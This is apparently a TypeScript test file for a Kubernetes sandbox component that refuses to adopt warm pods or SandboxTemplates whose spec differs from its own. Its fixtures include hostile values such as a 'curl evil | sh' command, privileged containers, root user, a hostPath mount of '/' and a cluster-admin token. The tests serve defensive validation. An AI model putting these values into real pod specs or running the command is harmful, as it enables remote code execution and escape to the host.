// A warm pod is adopted, and an existing SandboxTemplate accepted, only when its pod is the one Sandbar
// would create: labels can be copied by anyone who may create pods in the namespace. Otherwise it is left
// alone and the pool's state (Health) and the log say why.
import { readFileSync } from 'node:fs';
import type { V1Pod } from '@kubernetes/client-node';
import { describe, expect, it, vi } from 'vitest';
import { AgentSandboxPool, type AgentSandboxApi } from '../../../../electron/sandbox/kubernetes/agent-sandbox.js';
import { KubernetesWarmPods, type WarmPodApi } from '../../../../electron/sandbox/kubernetes/kubernetes-warm-pods.js';
import type { Json } from '../../../../electron/sandbox/kubernetes/pod-manifest.js';
import { podSpecMismatch } from '../../../../electron/sandbox/kubernetes/spec-match.js';
import type { ContainerSpec } from '../../../../electron/sandbox/backend.js';

/** Sandbar's own pod (the golden manifest); each test changes a copy of it. */
const GOLDEN = JSON.parse(readFileSync(new URL('../golden/pod.json', import.meta.url), 'utf8')) as { spec: Json & { containers: Json[] } };
const ours = () => structuredClone(GOLDEN.spec);
const tampered = (change: (spec: ReturnType<typeof ours>) => void) => {
  const spec = ours();
  change(spec);
  return spec;
};
const owner = { instanceId: 'me0000000000', pid: 42, host: 'h' };
const spec = {} as ContainerSpec;

describe('podSpecMismatch', () => {
  it('accepts Sandbar\'s pod as the API server returns it: defaults added, keys reordered', () => {
    const served = { serviceAccountName: 'default', serviceAccount: 'default', schedulerName: 'default-scheduler', ...ours() };
    served.containers[0] = { terminationMessagePath: '/dev/termination-log', ...served.containers[0] };
    expect(podSpecMismatch(served, ours())).toBeNull();
  });

  it.each([
    ['image', (s: ReturnType<typeof ours>) => (s.containers[0]!.image = 'evil/image')],
    ['command', (s: ReturnType<typeof ours>) => (s.containers[0]!.command = ['sh', '-c', 'curl evil | sh'])],
    ['env', (s: ReturnType<typeof ours>) => (s.containers[0]!.env = [{ name: 'PYTHONPATH', value: '/tmp' }])],
    ['securityContext', (s: ReturnType<typeof ours>) => ((s.containers[0]!.securityContext as Json).privileged = true)],
    ['securityContext', (s: ReturnType<typeof ours>) => ((s.securityContext as Json).runAsUser = 0)],
    ['volumes', (s: ReturnType<typeof ours>) => (s.volumes = [{ name: 'tmp', hostPath: { path: '/' } }, (s.volumes as Json[])[1]])],
    ['service account', (s: ReturnType<typeof ours>) => Object.assign(s, { serviceAccountName: 'cluster-admin', automountServiceAccountToken: true })],
    ['host namespaces', (s: ReturnType<typeof ours>) => (s.hostNetwork = true)],
  ])('names a changed %s', (what, change) => {
    expect(podSpecMismatch(tampered(change), ours())).toBe(`its ${what} differs from what Sandbar would create`);
  });

  it('refuses a second container or an init container', () => {
    expect(podSpecMismatch(tampered((s) => s.containers.push({ name: 'sidecar', image: 'x' })), ours())).toBe('it does not run exactly one container');
    expect(podSpecMismatch(tampered((s) => (s.initContainers = [{ name: 'i', image: 'x' }])), ours())).toBe('it does not run exactly one container');
  });
});

describe('warm pod adoption', () => {
  const warm = (name: string, podSpec: Json): V1Pod => ({
    metadata: { name, resourceVersion: '1', creationTimestamp: new Date(0), labels: { 'sandbar.instance': 'other', 'sandbar.spec': 'hash' } },
    spec: podSpec as unknown as V1Pod['spec'],
    status: { phase: 'Running', containerStatuses: [{ name: 'sandbox', image: 'i', imageID: '', ready: true, restartCount: 0, state: { running: {} } }] },
  });

  function pool(pods: V1Pod[]) {
    const log = vi.fn();
    const api: WarmPodApi = {
      list: async () => pods,
      createWarm: async () => 'new',
      patchLabelsIf: vi.fn(async () => true),
      deleteIf: vi.fn(async () => true),
      waitRunning: async () => {},
      specHash: () => 'hash',
      manifest: () => ({ spec: ours() }),
    };
    return { api, log, warm: new KubernetesWarmPods(api, owner, { log }) };
  }

  it('skips pods labelled warm whose spec is not ours, says why once, and adopts one that is (foreign pods cannot crowd it out)', async () => {
    const foreign = Array.from({ length: 6 }, (_, i) => warm(`privileged-${i}`, tampered((s) => ((s.containers[0]!.securityContext as Json).privileged = true))));
    const { api, log, warm: pods } = pool([...foreign, warm('good', ours())]);
    expect(await pods.claim(spec, 'run-1')).toBe('good');
    expect(await pods.claim(spec, 'run-2')).toBe('good');
    expect(log).toHaveBeenCalledTimes(6);
    expect(api.patchLabelsIf).toHaveBeenCalledTimes(2);
    expect(api.patchLabelsIf).toHaveBeenCalledWith('good', '1', expect.anything());
    const why = 'Warm pod privileged-5 was not adopted: its securityContext differs from what Sandbar would create. It is left alone.';
    expect(log).toHaveBeenCalledWith(why);
    expect(pods.snapshot().lastError).toBe(why);
    await pods.dispose();
  });

  it('starts cold rather than adopt a foreign pod, and never deletes one that carries its labels', async () => {
    const foreign = { ...warm('foreign', tampered((s) => (s.containers[0]!.image = 'evil/image'))) };
    foreign.metadata!.labels!['sandbar.instance'] = owner.instanceId;
    const { api, warm: pods } = pool([foreign]);
    expect(await pods.claim(spec)).toBeNull();
    pods.configure(spec, { size: 1, maxRunSec: 60 });
    await pods.sync();
    await pods.dispose();
    expect(api.patchLabelsIf).not.toHaveBeenCalled();
    expect(api.deleteIf).not.toHaveBeenCalledWith('foreign', expect.anything());
  });
});

describe('an existing SandboxTemplate', () => {
  function pool(existing: Json) {
    const api: AgentSandboxApi = {
      podFor: () => ({ metadata: { labels: {} }, spec: ours() }),
      specHash: () => 'hash',
      create: vi.fn(async (plural: string) => {
        if (plural === 'sandboxtemplates') throw Object.assign(new Error('exists'), { code: 409 });
      }),
      get: async (plural) => (plural === 'sandboxtemplates' ? existing : { status: { sandbox: { name: 'sb' } } }),
      replace: async () => {},
      remove: vi.fn(async () => {}),
      list: async () => [],
      readSandbox: async () => ({ metadata: { annotations: {} } }),
    };
    return { api, pool: new AgentSandboxPool(api, owner, 'ns') };
  }

  it('is used when its pod is the one Sandbar would make', async () => {
    const { api, pool: agent } = pool({ spec: { podTemplate: { spec: ours() } } });
    await expect(agent.claim(spec, 'run-1', 'claim-1', 1000)).resolves.toEqual({ pod: 'sb', claim: 'claim-1' });
    expect(api.create).toHaveBeenCalledWith('sandboxclaims', expect.anything());
    await agent.dispose();
  });

  it('is left alone, and no claim made, when its pod differs; the error says why', async () => {
    const { api, pool: agent } = pool({ spec: { podTemplate: { spec: tampered((s) => Object.assign(s, { automountServiceAccountToken: true })) } } });
    await expect(agent.claim(spec, 'run-1', 'claim-1', 1000)).rejects.toThrow(
      'The SandboxTemplate sandbar-hash already exists but its service account differs from what Sandbar would create; it is left alone and not used',
    );
    expect(api.create).not.toHaveBeenCalledWith('sandboxclaims', expect.anything());
    expect(api.remove).not.toHaveBeenCalledWith('sandboxtemplates', expect.anything());
    await agent.dispose();
  });
});
